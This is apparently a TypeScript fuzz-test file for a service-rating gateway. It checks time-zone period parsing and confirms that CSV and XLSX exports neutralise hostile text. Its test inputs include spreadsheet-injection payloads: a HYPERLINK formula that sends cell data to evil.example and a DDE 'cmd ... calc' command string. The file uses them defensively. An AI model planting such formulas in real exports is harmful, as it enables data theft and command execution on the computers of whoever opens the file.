import fc from 'fast-check';
import { v7 as uuidv7 } from 'uuid';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Scope } from '../../gateway/accounts/scope.js';
import type { Database } from '../../gateway/db/database.js';
import { openTestPglite } from '../support/pglite-template.js';
import { toCsv } from '../../gateway/exports/csv.js';
import { buildExport } from '../../gateway/exports/export.js';
import { count, rate, text, type ExportTable } from '../../gateway/exports/table.js';
import { toXlsx } from '../../gateway/exports/xlsx.js';
import { statistics } from '../../gateway/stats/figures.js';
import { listFlagged } from '../../gateway/stats/misuse.js';
import { MAX_PERIOD_DAYS, monthPeriod, parsePeriod, periodDays, todayPeriod } from '../../gateway/stats/period.js';
import { addDays, dayStart, localDay } from '../../gateway/stats/zone.js';
import { insertRecords, recordRow } from '../../gateway/store/records.js';
import { GRADES } from '../../protocol/grades.js';
import type { InvitationRecord } from '../../protocol/records.js';
import { readBack } from '../support/exports-read-back.js';
import { emptyDatabase } from '../integration/stats-fixture.js';

/*
 * Statistics' boundaries against random and hostile input: the period, month and day parsing in
 * every time zone Intl knows; exports of hostile text (commas, quotes, line breaks, control
 * characters, formulas such as =HYPERLINK(…)) read back by Python's csv and openpyxl; and records
 * carrying such text through the figures and the exports on PGlite.
 */
const SEED = 20_261_130;
const ZONES = Intl.supportedValuesOf('timeZone');
const zone = fc.constantFrom(...ZONES, 'UTC', 'Asia/Shanghai');
const day = fc.date({ min: new Date('2000-01-02T00:00:00Z'), max: new Date('2999-12-30T00:00:00Z'), noInvalidDate: true }).map((d) => d.toISOString().slice(0, 10));
const dayLike = fc.oneof(day, fc.string({ maxLength: 12 }), fc.constantFrom('2026-02-29', '2028-02-29', '2026-99-99', '2026-1-1', ' 2026-01-01', '2026-01-01T00:00', '1999-12-31', '3000-01-01', '０２０２６-01-01'));
const FORMULA_START = /^[=+\-@\t\r\uFF1D\uFF0B\uFF0D\uFF20]/;
const hostile = fc.oneof(
  fc.string({ maxLength: 30, unit: 'binary' }),
  fc.constantFrom('=HYPERLINK("http://evil.example/?x="&A1,"点我")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '\t=1', '\r=1', '＝1+1', 'a,b', '"quoted"', 'line\nbreak', 'cr\rlf\r\n', '', ' ', '\u0000\u0007', '\uD800', '食品经营许可'),
);

describe('fuzz: periods', () => {
  it('parses any query to a period of whole local days, or says which field is wrong', () => {
    fc.assert(
      fc.property(fc.oneof(fc.record({ from: dayLike, to: dayLike }, { requiredKeys: [] }), fc.anything()), zone, (query, timeZone) => {
        const parsed = parsePeriod(query, timeZone);
        if (!parsed.ok) {
          expect(parsed.error).toMatch(/^(from|to|\(root\)|: )|expected|required/);
          return;
        }
        const { from, to } = query as { from: string; to: string };
        const days = periodDays(parsed.period, timeZone);
        expect(days[0]).toBe(from);
        expect(days.at(-1)).toBe(to);
        expect(days.length).toBeGreaterThanOrEqual(1);
        expect(days.length).toBeLessThanOrEqual(MAX_PERIOD_DAYS);
        expect(localDay(parsed.period.from.getTime() - 1, timeZone)).toBe(addDays(from, -1));
      }),
      { seed: SEED, numRuns: 400 },
    );
  });

  it('starts every day at its first local instant, in every zone', () => {
    fc.assert(
      fc.property(day, zone, (d, timeZone) => {
        const start = dayStart(d, timeZone);
        expect(localDay(start, timeZone)).toBe(d);
        expect(localDay(start.getTime() - 1, timeZone)).toBe(addDays(d, -1));
      }),
      { seed: SEED, numRuns: 500 },
    );
  });

  it('takes a month as its days, and refuses anything else with a RangeError', () => {
    fc.assert(
      fc.property(fc.oneof(day.map((d) => d.slice(0, 7)), fc.string({ maxLength: 9 })), zone, (month, timeZone) => {
        let period;
        try {
          period = monthPeriod(month, timeZone);
        } catch (err) {
          expect(err).toBeInstanceOf(RangeError);
          expect(month).not.toMatch(/^2\d{3}-(0[1-9]|1[0-2])$/);
          return;
        }
        const days = periodDays(period, timeZone);
        expect(days[0]).toBe(`${month}-01`);
        expect(days.every((d) => d.startsWith(month))).toBe(true);
        expect([28, 29, 30, 31]).toContain(days.length);
      }),
      { seed: SEED, numRuns: 400 },
    );
  });

  it("puts now in today's period", () => {
    fc.assert(
      fc.property(fc.date({ min: new Date('2000-01-02T00:00:00Z'), max: new Date('2999-12-30T00:00:00Z'), noInvalidDate: true }), zone, (now, timeZone) => {
        const { from, to } = todayPeriod(now, timeZone);
        expect(from.getTime()).toBeLessThanOrEqual(now.getTime());
        expect(now.getTime()).toBeLessThan(to.getTime());
      }),
      { seed: SEED, numRuns: 400 },
    );
  });
});

describe('fuzz: exports of hostile text', () => {
  const table = fc.array(fc.tuple(hostile, hostile, fc.integer({ min: -5, max: 10_000 }), fc.option(fc.double({ min: 0, max: 1, noNaN: true }), { nil: null })), { minLength: 1, maxLength: 8 }).map(
    (rows): ExportTable => ({ sheet: '表 2026-11', columns: [text('甲'), text('乙'), count('数'), rate('率')], rows }),
  );

  it('CSV: every text read back as written, a formula-like start behind a quote', async () => {
    await fc.assert(
      fc.asyncProperty(table, async (t) => {
        const { bom, rows } = await readBack(await toCsv(t), 'csv');
        expect(bom).toBe(true);
        expect(rows[0]).toEqual(['甲', '乙', '数', '率']);
        // UTF-8 carries an unpaired surrogate as U+FFFD.
        expect(rows.slice(1).map((r) => r.slice(0, 3))).toEqual(t.rows.map(([a, b, n]) => [a, b].map((s) => wellFormed(FORMULA_START.test(s as string) ? `'${s}` : (s as string))).concat(String(n))));
        expect(rows.slice(1).map((r) => r[3])).toEqual(t.rows.map(([, , , r]) => (r === null ? '' : `${((r as number) * 100).toFixed(1)}%`)));
      }),
      { seed: SEED, numRuns: 10 },
    );
  }, 120_000);

  it('XLSX: every text a string cell (never a formula), as XML can carry it; numbers as numbers', async () => {
    await fc.assert(
      fc.asyncProperty(table, async (t) => {
        const book = await readBack(await toXlsx(t), 'xlsx');
        const body = book.rows.slice(1);
        expect(body).toHaveLength(t.rows.length);
        expect(book.rows.flat().some((c) => c.t === 'f')).toBe(false);
        body.forEach((cells, i) => {
          const [a, b, n, r] = t.rows[i]!;
          for (const [cell, written] of [[cells[0], a], [cells[1], b]] as const) {
            // eslint-disable-next-line no-control-regex
            const carried = (written as string).replace(/\r\n?/g, '\n').replace(/[\u0000-\u0008\u000B\u000C\u000E-\u001F\uFFFE\uFFFF]|[\uD800-\uDBFF](?![\uDC00-\uDFFF])|(?<![\uD800-\uDBFF])[\uDC00-\uDFFF]/g, '\uFFFD');
            if (carried === '') expect(cell?.v ?? '').toBe('');
            else expect(cell).toMatchObject({ v: carried, t: 's' });
          }
          expect(cells[2]).toMatchObject({ v: n, t: 'n' });
          if (r === null) expect(cells[3]?.v ?? null).toBeNull();
          else expect(cells[3]).toMatchObject({ t: 'n', f: '0.0%' });
        });
      }),
      { seed: SEED, numRuns: 10 },
    );
  }, 120_000);
});

describe('fuzz: hostile records through the figures and the exports (PGlite)', () => {
  let db: Database;
  beforeAll(async () => {
    db = await emptyDatabase(() => openTestPglite());
  }, 60_000);
  afterAll(async () => {
    await db?.close();
  });

  const PROVINCE: Scope = { role: 'province', areaPrefix: '33', hallCode: null };
  // What PostgreSQL's JSON can hold (ingest could store no other): no NUL, no unpaired surrogate.
  const storable = hostile.filter((s) => !s.includes('\u0000') && wellFormed(s) === s);
  const place = fc.record({ hallCode: storable.filter((s) => s.length > 0), windowNo: storable.filter((s) => s.length > 0) });
  const invitation = fc.record({
    place,
    staffId: storable.filter((s) => s.length > 0),
    itemCode: storable.filter((s) => s.length > 0),
    itemName: fc.option(storable, { nil: undefined }),
    outcome: fc.constantFrom('rated', 'not_rated', 'cancelled' as const),
    grade: fc.constantFrom(...GRADES),
    minute: fc.integer({ min: 0, max: 30 * 24 * 60 - 1 }),
    flags: fc.array(fc.constantFrom('fast_press', 'grade_burst', 'no_reason', 'junk'), { maxLength: 2 }),
  });

  it('counts every stored invitation once whatever its text, and exports it as written', async () => {
    await fc.assert(
      fc.asyncProperty(fc.array(invitation, { minLength: 1, maxLength: 6 }), fc.integer({ min: 1, max: 4 }), async (invitations, cancelsPerDay) => {
        await db.exec('TRUNCATE later_ratings, records, terminals CASCADE');
        await db.query("INSERT INTO terminals (terminal_id, status, first_seen, last_seen) VALUES ('T-F', 'approved', now(), now())");
        const records = invitations.map((inv, i) => hostileRecord(inv, i));
        await insertRecords(db, records.map((r) => recordRow(r, { seal: 'unsigned', payload: '{}', receivedAt: new Date(r.closedAt), instance: 'fuzz' })));
        const q = { scope: PROVINCE, period: monthPeriod('2026-11', 'Asia/Shanghai'), timeZone: 'Asia/Shanghai', includeFlagged: true, cancelsPerDay };
        const [total] = await statistics(db, { ...q, by: 'total' });
        expect(total!.invitations).toBe(invitations.length);
        for (const by of ['hall', 'window', 'staff', 'day'] as const) {
          const rows = await statistics(db, { ...q, by });
          expect(rows.reduce((sum, r) => sum + r.invitations, 0)).toBe(invitations.length);
          expect(rows.reduce((sum, r) => sum + r.flagged, 0)).toBe(total!.flagged);
        }
        const items = await statistics(db, { ...q, by: 'item' });
        expect(items.reduce((sum, r) => sum + r.invitations, 0)).toBe(invitations.length);
        expect((await listFlagged(db, { ...q, limit: 50, offset: 0 })).total).toBe(total!.flagged);
        const [hidden] = await statistics(db, { ...q, by: 'total', includeFlagged: false });
        expect(hidden!.invitations).toBe(invitations.length - total!.flagged);

        const csv = await readBack((await buildExport(db, { ...q, month: '2026-11', what: 'records', format: 'csv' })).body, 'csv');
        const byId = new Map(csv.rows.slice(1).map((r) => [r[0], r]));
        expect(byId.size).toBe(invitations.length);
        for (const r of records) {
          const row = byId.get(r.id)!;
          const quoted = (s: string) => (FORMULA_START.test(s) ? `'${s}` : s);
          expect([row[3], row[4], row[5], row[6], row[7]]).toEqual([r.hallCode, r.windowNo, r.staffId, r.services[0]!.itemCode, r.services[0]!.itemName ?? ''].map(quoted));
        }
      }),
      { seed: SEED, numRuns: 8 },
    );
  }, 180_000);
});

function wellFormed(s: string): string {
  return Buffer.from(s, 'utf8').toString('utf8');
}

function hostileRecord(inv: { place: { hallCode: string; windowNo: string }; staffId: string; itemCode: string; itemName?: string | undefined; outcome: 'rated' | 'not_rated' | 'cancelled'; grade: (typeof GRADES)[number]; minute: number; flags: string[] }, seq: number): InvitationRecord {
  const invitedAt = new Date(Date.parse('2026-10-31T16:00:00Z') + inv.minute * 60_000);
  return {
    id: uuidv7(),
    schema: 1,
    terminalId: 'T-F',
    areaCode: '330106',
    hallCode: inv.place.hallCode,
    windowNo: inv.place.windowNo,
    flags: inv.flags,
    test: false,
    clock: { synced: true, bootId: 'b', monoMs: 1 },
    seq: seq + 1,
    kind: 'invitation',
    staffId: inv.staffId,
    services: [{ itemCode: inv.itemCode, ...(inv.itemName !== undefined && { itemName: inv.itemName }), caseNo: `C${seq}` }],
    mode: 'single',
    proxy: false,
    invitedAt: invitedAt.toISOString(),
    closedAt: new Date(invitedAt.getTime() + 10_000).toISOString(),
    outcome: inv.outcome,
    ...(inv.outcome === 'rated' && { rating: { grade: inv.grade, gradeCode: 3, reasons: [], reasonCatalogVersion: null, pressedAt: invitedAt.toISOString(), latencyMs: 1 } }),
    channel: 'counter',
  };
}
